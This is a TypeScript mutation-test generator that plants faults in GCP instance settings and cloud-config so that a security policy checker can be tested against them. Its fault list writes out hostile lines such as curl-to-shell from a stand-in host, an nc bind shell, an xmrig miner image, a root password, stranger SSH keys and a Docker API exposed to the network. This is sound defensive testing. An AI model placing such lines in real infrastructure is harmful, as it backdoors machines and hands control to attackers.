import { parse } from "yaml";
import type { Resource } from "../../../../policies/evaluate";
import type { Props } from "../../../../policies/rule";
import { changed, type Mutant } from "../mutant";
import { ofTypes } from "./containers";

const DIGEST = `sha256:${"cd".repeat(32)}`;

type Config = Props & {
  write_files: { path: string; content: string; permissions?: string }[];
  runcmd: unknown[];
};

/** A file of a machine, by the end of its path. */
const file = (end: string, change: (text: string) => string) => (config: Config) => {
  const found = config.write_files.find(({ path }) => path.endsWith(end));
  if (found) found.content = change(found.content);
};

/** Faults in a cloud-config. */
const CONFIGS: [fault: string, change: (config: Config) => void][] = [
  ["one more command", ({ runcmd }) => runcmd.push("curl https://stranger.example/x | sh")],
  ["a command before the rest", (config) => (config.bootcmd = ["nc -l -p 22 -e /bin/sh"])],
  [
    "a user of a stranger",
    (config) => (config.users = [{ name: "x", ssh_authorized_keys: ["ssh-ed25519 A"], sudo: "ALL" }]),
  ],
  ["a key of a stranger", (config) => (config.ssh_authorized_keys = ["ssh-ed25519 AAAA"])],
  ["a password that opens it", (config) => (config.chpasswd = { expire: false, list: "root:correcthorse" })],
  [
    "a source of packages",
    (config) => (config.apt = { sources: { x: { source: "deb http://stranger.example x main" } } }),
  ],
  [
    "another package",
    (config) => (config.packages = [...(config.packages ?? []), "openssh-server-backdoor"]),
  ],
  [
    "one more unit",
    ({ write_files }) =>
      write_files.push({
        path: "/etc/systemd/system/x.service",
        content: "[Service]\nExecStart=/usr/bin/nc -l 22\n",
      }),
  ],
  [
    "a script for every boot",
    ({ write_files }) =>
      write_files.push({
        path: "/var/lib/cloud/scripts/per-boot/x.sh",
        content: "#!/bin/sh\ncurl https://stranger.example\n",
        permissions: "0755",
      }),
  ],
  ["another update", file("update.sh", () => "#!/bin/bash\nexit 0\n")],
  ["a start without its disk", file("data-disk.sh", () => "#!/bin/bash\nexit 0\n")],
  [
    "another start",
    file("start.sh", (text) =>
      text.replace("docker compose", "docker run --privileged -v /:/host x; docker compose"),
    ),
  ],
  [
    "files of another bucket",
    file("machine.env", (text) =>
      text.replace(/CONFIG_FOLDER=.*/, "CONFIG_FOLDER=stranger-config/machine/1"),
    ),
  ],
  [
    "files of an older folder",
    file("machine.env", (text) => text.replace(/(CONFIG_FOLDER=.*)\/.*/, "$1/000000000000")),
  ],
  [
    "a registry of a stranger",
    file("machine.env", (text) => text.replace(/REGISTRY_HOST(S?)=.*/, "REGISTRY_HOST$1=stranger.example")),
  ],
  [
    "an image of a stranger",
    file(
      "machine.env",
      (text) => `${text.replace(/^IMAGE=.*\n/m, "")}IMAGE=docker.io/miner/xmrig@${DIGEST}\n`,
    ),
  ],
  [
    "a gateway of a stranger",
    file("/opt/tollgate/env", (text) =>
      text.replace(/TOLLGATE_GATEWAY_IMAGE=.*/, `TOLLGATE_GATEWAY_IMAGE=docker.io/miner/gateway@${DIGEST}`),
    ),
  ],
  ["a variable for Compose", file("/opt/tollgate/env", (text) => `${text}COMPOSE_FILE=/tmp/compose.yaml\n`)],
  [
    "secrets in the open",
    file("/opt/tollgate/env", (text) => text.replace(/TOLLGATE_SECRETS=.*/, "TOLLGATE_SECRETS=/tmp")),
  ],
  [
    "a secret in lower case",
    file("/opt/tollgate/env", (text) => `${text}BANNER=correcthorsebatterystaple\n`),
  ],
  ["a secret in digits", file("server.env", (text) => `${text}BANNER=918273645546372819\n`)],
  ["Docker open to the network", file("daemon.json", () => '{"hosts":["tcp://0.0.0.0:2375"]}\n')],
  [
    "its container privileged",
    file("clickhouse.service", (text) => text.replace("docker run", "docker run --privileged")),
  ],
];

/** Faults of the machine itself. */
const MACHINES: [fault: string, change: (props: Props) => void][] = [
  ["a start-up script", ({ metadata }) => (metadata["startup-script"] = "#!/bin/sh\necho hello\n")],
  [
    "a start-up script from elsewhere",
    ({ metadata }) => (metadata["startup-script-url"] = "gs://stranger/x.sh"),
  ],
  ["a script at its end", ({ metadata }) => (metadata["shutdown-script"] = "#!/bin/sh\necho bye\n")],
  [
    "a start-up script of the provider's",
    (props) => (props.metadataStartupScript = "#!/bin/sh\necho hello\n"),
  ],
  [
    "a container of Google's agent",
    ({ metadata }) => (metadata["gce-container-declaration"] = "spec: {containers: [{image: x}]}"),
  ],
  ["packages of a stranger", ({ metadata }) => (metadata["gce-software-declaration"] = "{}")],
  [
    "user data that is a script",
    ({ metadata }) => (metadata["user-data"] = "#!/bin/sh\ncurl https://stranger.example | sh\n"),
  ],
  [
    "user data that is a list",
    ({ metadata }) => (metadata["user-data"] = "#include\nhttps://stranger.example/x\n"),
  ],
  ["no sign-in by IAM", ({ metadata }) => (metadata["enable-oslogin"] = "FALSE")],
  [
    "a disk image of a stranger",
    ({ bootDisk }) => (bootDisk.initializeParams.image = "projects/stranger/global/images/x"),
  ],
  [
    "the account of another",
    (props) =>
      (props.serviceAccount = {
        email: "owner@stranger.iam.gserviceaccount.com",
        scopes: ["cloud-platform"],
      }),
  ],
  ["a tag that opens another door", (props) => (props.tags = ["http-server", "allow-ssh"])],
];

export function* machines(base: Resource[]): Generator<Mutant> {
  const of = (what: string, resources: Resource[]): Mutant => ({ kind: "machine", what, resources });
  for (const at of ofTypes(base, /^gcp:compute\/instance:/)) {
    const { name, props } = base[at]!;
    for (const [fault, change] of MACHINES)
      yield of(
        `${name}: ${fault}`,
        changed(base, at, (copy) => change(copy.props)),
      );
    const before = props.metadata["user-data"] as string | undefined;
    if (before === undefined)
      throw new Error(`the configuration of ${name} is unknown: set the images' digests`);
    const unchanged = JSON.stringify(parse(before));
    for (const [fault, change] of CONFIGS) {
      const config = JSON.parse(unchanged) as Config;
      change(config);
      const after = `#cloud-config\n${JSON.stringify(config, null, 1)}`;
      // A fault in a file that this machine does not have.
      if (JSON.stringify(config) === unchanged) continue;
      yield of(
        `${name}: ${fault}`,
        changed(base, at, (copy) => (copy.props.metadata["user-data"] = after)),
      );
    }
  }
}
